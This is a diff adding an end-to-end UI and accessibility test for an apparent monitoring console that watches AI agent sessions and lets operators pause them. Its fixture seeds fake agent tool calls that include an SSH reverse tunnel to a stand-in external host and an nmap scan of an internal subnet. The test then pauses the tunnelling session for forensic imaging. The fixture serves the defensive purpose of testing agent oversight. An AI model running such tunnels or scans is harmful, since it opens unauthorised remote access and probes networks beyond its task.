@@ -1,0 +1,153 @@
+// How it looks, at three sizes and in both themes, on real sessions; and that it stays usable for everyone (axe). The pictures land in
+// test-results/screens; `VIGIL_README_PICTURE=1 npm test -- e2e/screens` renews the one in the README.
+import { mkdirSync } from 'node:fs'
+import path from 'node:path'
+import AxeBuilder from '@axe-core/playwright'
+import { expect, type Page, test } from '@playwright/test'
+import { type Product, signIn, startProduct, until, whyNoCgroup } from './product.ts'
+
+const missing = whyNoCgroup()
+test.skip(missing !== undefined && !process.env.CI, `LEFT OUT: ${missing}`)
+test.describe.configure({ timeout: 180_000 })
+
+const root = path.resolve(import.meta.dirname, '..')
+const folder = path.join(root, 'test-results/screens')
+const sizes = [
+  { name: '1600', width: 1600, height: 1000 },
+  { name: '1280', width: 1280, height: 800 },
+  { name: '390', width: 390, height: 844 },
+]
+
+let product: Product
+test.beforeAll(async () => {
+  mkdirSync(folder, { recursive: true })
+  product = await startProduct()
+  const loop = (work: string) => `while true; do ${work}; sleep 0.3; done`
+  const agents: [string, string, string, string][] = [
+    [
+      'ep-7f3a91',
+      'rome-30b',
+      'swe-gym · astropy-13236',
+      `exec 3<>/dev/tcp/127.0.0.1/${new URL(product.url).port}; ${loop('head -c 2000 /dev/zero >&3; i=0; while [ $i -lt 20000 ]; do i=$((i+1)); done')}`,
+    ],
+    ['ep-7f3b02', 'rome-30b', 'swe-gym · django-16379', loop('i=0; while [ $i -lt 40000 ]; do i=$((i+1)); done')],
+    ['ep-7f3a44', 'rome-30b', 'terminal-bench · qemu-startup', loop('grep -rn slots /usr/include >/dev/null')],
+    ['ep-7f39c8', 'iflow-cli', 'travel-plan · 0412', loop('true')],
+    ['ep-7f3b22', 'qwen3-coder', 'swe-gym · requests-5414', loop('find /etc -name hosts >/dev/null 2>&1')],
+  ]
+  for (const [session, agent, task, script] of agents)
+    product.vigil('run', '--session', session, '--agent', agent, '--task', task, '--', 'bash', '-c', script)
+  const over = product.vigil(
+    'run',
+    '--session',
+    'ep-7f3a10',
+    '--agent',
+    'rome-30b',
+    '--task',
+    'swe-gym · sympy-20212',
+    '--',
+    'sh',
+    '-c',
+    'sleep 1; exit 1',
+  )
+  await new Promise((resolve) => over.once('exit', resolve))
+  await until(
+    'all are seen',
+    async () => (await product.json<{ sessions: unknown[] }>('/api/sessions')).sessions.length === 6,
+  )
+  const says = (session: string, call: string, command: string) =>
+    JSON.stringify({
+      v: 1,
+      kind: 'action.started',
+      atMs: Date.now(),
+      session,
+      data: { call, tool: 'shell', input: JSON.stringify({ command }), summary: command },
+    })
+  await product.api('/api/ingest/events', {
+    method: 'POST',
+    body: [
+      says('ep-7f3a91', 'c1', 'ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 ops@203.0.113.40'),
+      says('ep-7f3a44', 'c1', 'nmap -sT -p 22,6379,9200 10.0.8.0/24'),
+      says('ep-7f3b22', 'c1', 'python -m pip install -e .'),
+      says('trace-5b8efff798038103', 'c1', 'pytest -x astropy/wcs -q'),
+    ].join('\n'),
+  })
+  const pause = {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ action: 'pause', reason: 'tunnel, keep for imaging' }),
+  }
+  for (const session of ['ep-7f3b02', 'ep-7f3a91']) {
+    const { id } = (await (await product.api(`/api/sessions/${session}/controls`, pause)).json()) as { id: string }
+    expect((await product.json<{ state: string }>(`/api/controls/${id}?waitMs=5000`)).state).toBe('enforced')
+  }
+  await new Promise((resolve) => setTimeout(resolve, 12_000)) // enough samples for the sparklines to be lines
+})
+test.afterAll(async () => {
+  await product.stop()
+})
+
+async function accessible(page: Page, where: string): Promise<void> {
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  expect(violations.map(({ id, nodes }) => `${where}: ${id} ${nodes[0]?.target.join(' ')}`)).toEqual([])
+}
+
+for (const theme of ['dark', 'light'] as const) {
+  test(`the console in ${theme} at every size: nothing overflows, nothing is out of reach, axe has no complaint`, async ({
+    page,
+    context,
+  }) => {
+    await context.addCookies([{ name: 'vigil-theme', value: theme, url: product.url }])
+    await signIn(page, product)
+    for (const { name, width, height } of sizes) {
+      await page.setViewportSize({ width, height })
+      for (const [room, url] of [
+        ['live', '/live'],
+        ['session', '/sessions/ep-7f3a91'],
+      ] as const) {
+        await page.goto(product.url + url)
+        await expect(page.getByText('ep-7f3a91').first()).toBeVisible()
+        await expect(page.getByText(/Resume/).first()).toBeVisible()
+        await page.waitForTimeout(1_200)
+        await page.screenshot({ path: path.join(folder, `${room}-${name}-${theme}.png`) })
+        const overflow = await page.evaluate(
+          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
+        )
+        expect(overflow, `${room} at ${name} scrolls sideways`).toBeLessThanOrEqual(0)
+        await accessible(page, `${room} ${name} ${theme}`)
+        if (process.env.VIGIL_README_PICTURE && theme === 'dark' && name === '1600' && room === 'live') {
+          await page.screenshot({ path: path.join(root, 'e2e/live.png') })
+        }
+      }
+    }
+  })
+}
+
+test('the keyboard is enough: find, open, pause, resume, go back', async ({ page }) => {
+  await signIn(page, product)
+  await expect(page.getByRole('row', { name: /ep-7f3a44/ })).toBeVisible()
+  await page.keyboard.press('/')
+  await page.keyboard.type('7f3a44')
+  await expect(page.getByRole('row', { name: /ep-7f3a91/ })).toBeHidden()
+  // A letter typed into a field is a letter.
+  await page.keyboard.type('p')
+  await page.keyboard.press('Backspace')
+  expect((await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state).toBe('running')
+  await page.keyboard.press('Escape')
+  await page.keyboard.press('j')
+  await page.keyboard.press('p')
+  await until(
+    'it is paused',
+    async () => (await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state === 'paused',
+  )
+  await page.keyboard.press('p')
+  await until(
+    'it runs again',
+    async () => (await product.json<{ row: { state: string } }>('/api/sessions/ep-7f3a44')).row.state === 'running',
+  )
+  await page.keyboard.press('o')
+  await page.waitForURL('**/sessions/ep-7f3a44')
+  await page.keyboard.press('g')
+  await page.keyboard.press('l')
+  await page.waitForURL('**/live**')
+})
